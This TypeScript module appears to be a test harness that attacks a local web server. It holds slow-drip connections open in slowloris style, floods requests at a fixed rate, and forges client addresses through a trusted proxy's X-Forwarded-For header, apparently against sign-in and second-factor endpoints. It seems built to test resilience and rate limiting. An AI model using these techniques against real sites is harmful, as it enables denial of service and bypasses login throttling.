import { Agent, type IncomingHttpHeaders, request } from 'node:http'
import { connect } from 'node:net'

/** The attacking client. */
const ATTACKER = '127.0.0.66'
/** The proxy that the site trusts: it forwards requests of many clients. */
const PROXY = '127.0.0.1'
const PER_SECOND = 100

/**
 * Keeps connections open that send a text and then a letter now and then; those that the site ends are opened again.
 * @param options whether they read the answers
 */
export function hold(origin: string, count: number, text: string, { reads = true }: { reads?: boolean } = {}) {
  const port = Number(new URL(origin).port)
  const open = () => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: ATTACKER })
    const dripping = reads ? setInterval(() => socket.write('x'), 4_000) : undefined
    socket.on('error', () => {})
    socket.on('close', () => {
      clearInterval(dripping)
      // At different times, as connections from many processes would be: all at once they would be a flood.
      setTimeout(open, 500 + Math.random() * 1_000)
    })
    socket.write(text)
    if (reads) socket.resume()
    else socket.pause()
  }
  for (let number = 0; number < count; number += 1) open()
}

/**
 * Sends requests at a steady rate, without waiting for answers.
 * @param ask with a body it is a POST; client: the address of a client other than the attacker
 * @param options how many are sent at the same moment; after how many milliseconds the client is gone
 */
export function flood(
  origin: string,
  ask: () => { path: string; body?: string; client?: string },
  { atOnce = 1, leaveAfter }: { atOnce?: number; leaveAfter?: number } = {},
) {
  const port = Number(new URL(origin).port)
  const agents = Object.fromEntries(
    [ATTACKER, PROXY].map((localAddress) => [localAddress, new Agent({ keepAlive: true, localAddress })]),
  )
  const send = () => {
    const { path, body, client } = ask()
    const agent = agents[client ? PROXY : ATTACKER]
    const headers = {
      ...(body !== undefined && { 'content-type': 'application/json' }),
      ...(client && { 'x-forwarded-for': client }),
    }
    const method = body === undefined ? 'GET' : 'POST'
    const sent = request({ host: '127.0.0.1', port, path, agent, headers, method }, (answer) => answer.resume())
    sent.on('error', () => {}).end(body)
    if (leaveAfter !== undefined) setTimeout(() => sent.destroy(), leaveAfter)
  }
  setInterval(
    () => {
      for (let number = 0; number < atOnce; number += 1) send()
    },
    (1000 / PER_SECOND) * atOnce,
  )
}

/** Answers of the sign-in and of the second factor. */
type Answer = { token?: string; secret?: string; recovery_codes?: string[] }

/**
 * Sends a request as one of many clients, through the proxy that the site trusts.
 * @param client its address
 * @param question with a body it is a POST
 */
export function askAs(
  origin: string,
  client: string,
  { path, body, headers = {} }: { path: string; body?: object; headers?: Record<string, string> },
): Promise<{ status: number; headers: IncomingHttpHeaders; json: Answer }> {
  const text = body && JSON.stringify(body)
  return new Promise((resolve, reject) => {
    const sent = request(
      {
        host: '127.0.0.1',
        port: Number(new URL(origin).port),
        path,
        localAddress: PROXY,
        method: body ? 'POST' : 'GET',
        headers: { ...(body && { 'content-type': 'application/json' }), 'x-forwarded-for': client, ...headers },
      },
      async (answer) => {
        let said = ''
        for await (const part of answer) said += part
        const isJson = /json/.test(answer.headers['content-type'] ?? '')
        resolve({ status: Number(answer.statusCode), headers: answer.headers, json: isJson ? JSON.parse(said) : {} })
      },
    )
    sent.on('error', reject).end(text)
  })
}
